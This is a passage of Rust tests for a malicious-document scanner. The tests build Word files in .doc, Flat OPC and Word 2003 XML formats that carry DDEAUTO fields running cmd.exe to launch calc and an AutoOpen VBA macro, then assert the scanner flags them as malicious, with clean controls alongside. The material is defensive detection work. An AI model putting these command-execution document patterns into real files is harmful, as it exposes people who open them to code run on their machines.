        "Dear sir,\r\u{13} DDEAUTO cmd.exe \"/c calc\" \u{14}!\u{15}\r"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    for word in [narrow, wide] {
        let doc = compound(&[("WordDocument", &word), ("1Table", &[0; 64])]);
        let r = scan("letter.doc", doc);
        assert!(has_key(&r, "document.dde.command"), "{:?}", keys(&r));
        assert_eq!(r.verdict, Verdict::Malicious);
    }
    // Control: a page number field.
    let mut word = vec![0xec, 0xa5, 0xc1, 0x00];
    word.resize(512, 0);
    word.extend(b"Page \x13 PAGE \x14 1\x15\r");
    assert_clean(&scan(
        "letter.doc",
        compound(&[("WordDocument", &word), ("1Table", &[0; 64])]),
    ));
}

/// Word opens a package saved as one XML file (Flat OPC, "Word XML
/// Document"), and olevba reads the VBA project in its base64 part; Word
/// 2003 XML writes fields as a docx does.
#[test]
fn flat_opc_and_word_2003_xml_are_read_as_packages() {
    let src = b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nEnd Sub\r\n";
    let project = with_streams(&[], &vba_project("", &[("M", src)]));
    let part = |name: &str, content: &str| {
        format!("<pkg:part pkg:name=\"{name}\" pkg:contentType=\"x\">{content}</pkg:part>")
    };
    let field = "<w:document xmlns:w=\"w\"><w:body><w:p><w:fldSimple w:instr=\" DDEAUTO cmd.exe &quot;/c calc&quot; \"/></w:p></w:body></w:document>";
    let package = |parts: &[String]| {
        format!(
            "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?>\
             <pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">{}</pkg:package>",
            parts.concat()
        )
        .into_bytes()
    };
    let vba = package(&[
        part(
            "/word/document.xml",
            "<pkg:xmlData><w:document xmlns:w=\"w\"/></pkg:xmlData>",
        ),
        part(
            "/word/vbaProject.bin",
            &format!(
                "<pkg:binaryData>{}</pkg:binaryData>",
                String::from_utf8(b64(&project)).unwrap()
            ),
        ),
    ]);
    let r = scan("letter.xml", vba);
    assert!(has_key(&r, "document.macro"), "{:?}", keys(&r));
    assert_eq!(r.verdict, Verdict::Malicious);
    let dde = package(&[part(
        "/word/document.xml",
        &format!("<pkg:xmlData>{field}</pkg:xmlData>"),
    )]);
    let r = scan("letter.xml", dde);
    assert!(has_key(&r, "document.dde.command"), "{:?}", keys(&r));
    // Control: a package of plain text.
    let plain = package(&[part(
        "/word/document.xml",
        "<pkg:xmlData><w:document xmlns:w=\"w\"><w:p><w:t>Hello</w:t></w:p></w:document></pkg:xmlData>",
    )]);
    assert_clean(&scan("letter.xml", plain));
    let w2003 = "<?xml version=\"1.0\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p>\
        <w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>\
        <w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:wordDocument>";
    let r = scan("letter.xml", w2003.as_bytes().to_vec());
    assert!(has_key(&r, "document.dde.command"), "{:?}", keys(&r));
}
